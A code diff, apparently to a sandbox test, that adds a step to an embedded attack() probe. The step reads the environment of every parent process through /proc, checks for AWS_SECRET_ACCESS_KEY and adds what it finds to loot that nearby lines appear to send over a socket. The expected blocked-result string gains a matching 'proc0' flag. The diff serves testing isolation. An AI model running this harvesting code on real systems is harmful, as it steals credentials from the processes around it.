@@ -58,6 +58,19 @@ def attack():
             seen["file"] = 1
         except OSError:
             seen.setdefault("file", 0)
+    # deploy's own environment, through /proc, up the chain of parents
+    pid, found = os.getppid(), ""
+    while pid > 1:
+        try:
+            found += open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace")
+        except OSError:
+            pass
+        try:
+            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
+        except (OSError, ValueError):
+            break
+    seen["proc"] = int("AWS_SECRET_ACCESS_KEY" in found)
+    loot += found
     try:
         s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
         s.settimeout(3)
@@ -77,7 +90,7 @@ def attack():
                      stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
     return "_".join(f"{k}{v}" for k, v in sorted(seen.items()))
 """
-BLOCKED = "env0_file0_net0_write0"
+BLOCKED = "env0_file0_net0_proc0_write0"
 
 
 @dataclass
